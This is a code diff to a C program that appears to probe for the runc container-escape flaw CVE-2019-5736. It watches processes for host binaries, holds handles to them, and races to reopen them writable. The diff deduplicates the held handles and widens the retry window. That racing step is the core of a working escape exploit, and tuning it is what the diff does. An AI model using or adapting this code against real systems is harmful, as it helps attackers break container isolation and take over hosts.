@@ -423,6 +423,12 @@ static void do_exe_watch(int ms, int argc, char **argv) {
                     snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
                     ssize_t l = readlink(fdpath, held_name[nheld], 255);
                     held_name[nheld][l > 0 ? l : 0] = 0;
+                    /* One handle per binary: each is retried below for a while, not 64 times. */
+                    int dup = 0;
+                    for (int j = 0; j < nheld; j++) if (!strcmp(held_name[j], held_name[nheld])) dup = 1;
+                    /* A binary already held: stay on this process, it may exec the next
+                     * link (pidns's child becomes mntns) within the window. */
+                    if (dup) { close(fd); usleep(100); continue; }
                     printf("INFO an O_PATH handle to a host binary of the chain: pid %d (%s) exe %s\n", pid, comm, held_name[nheld]);
                     held[nheld++] = fd;
                 } else close(fd);
@@ -435,7 +441,7 @@ static void do_exe_watch(int ms, int argc, char **argv) {
     for (int i = 0; i < nheld; i++) {
         char self[64], what[600];
         snprintf(self, sizeof self, "/proc/self/fd/%d", held[i]);
-        long until = now_ms() + 3000;
+        long until = now_ms() + 5000;
         int w = -1;
         while (now_ms() < until && (w = open(self, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY) usleep(1000);
         snprintf(what, sizeof what, "a writable handle to the host binary %s (CVE-2019-5736)", held_name[i]);
